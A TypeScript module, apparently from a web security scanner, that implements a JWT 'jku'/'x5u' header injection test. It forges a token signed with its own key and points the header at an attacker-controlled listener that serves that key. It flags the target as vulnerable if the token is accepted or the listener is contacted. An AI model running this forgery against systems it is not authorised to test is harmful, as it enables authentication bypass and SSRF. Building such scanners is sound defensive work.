/** Carries the attacks that name a key set of our own in a header: a listener of ours serves it. */
import { generateKeyPairSync } from 'node:crypto'
import { type AnyAttack, type Attack, defineAttack } from '../attack.ts'
import { inconclusive, vulnerable } from '../judge.ts'
import { control, openWitness } from './attempt.ts'
import { mint, readToken } from './forge-token.ts'
import { openListener } from './listener.ts'
import { selfSignedCertificate } from './self-signed-certificate.ts'
import { tryVariants } from './token-attack.ts'

type KeyUrlAttack = Omit<Attack<'jwt'>, 'kind' | 'run' | 'effect' | 'holds' | 'needs'> & {
  /** The header that holds the address; `x5u` is answered with a certificate, others with a key set. */
  readonly parameter: 'jku' | 'x5u'
}

/** Vulnerable when the token gets in, and also when it does not but the target called our listener (SSRF). */
export function keyUrlAttack({ parameter, ...attack }: KeyUrlAttack): AnyAttack {
  return defineAttack({
    ...attack,
    effect: 'write',
    holds: 'nothing',
    needs: ['jwt'],
    async run(context) {
      if (context.rubbishAccepted) return inconclusive('superseded by auth/absent-no-token: any token gets in')
      const pair = generateKeyPairSync('rsa', { modulusLength: 2048 })
      const jwk = { ...pair.publicKey.export({ format: 'jwk' }), kid: 'own', alg: 'RS256', use: 'sig' }
      const certificate = `-----BEGIN CERTIFICATE-----\n${selfSignedCertificate(pair).toString('base64')}\n-----END CERTIFICATE-----\n`
      const answer = parameter === 'x5u' ? certificate : JSON.stringify({ keys: [jwk] })
      const listener = await openListener(context, () => answer)
      try {
        const witness = await openWitness(context)
        await control(context, 'the real token', witness)
        const { header, payload } = readToken(context.victim.token)
        const privateKey = pair.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString()
        const own = { ...header, alg: 'RS256', kid: 'own', [parameter]: `${listener.url}/${parameter}` }
        const token = mint({ algorithm: 'RS256', privateKey }, own, payload)
        const judgement = await tryVariants(context, witness, [{ name: `${parameter} to a listener of ours`, token }])
        if (listener.visits.length === 0) return judgement
        context.note('received', `the target fetched ${listener.visits.join(', ')} from our listener`)
        return vulnerable(context.evidence)
      } finally {
        await listener.close()
      }
    },
  })
}
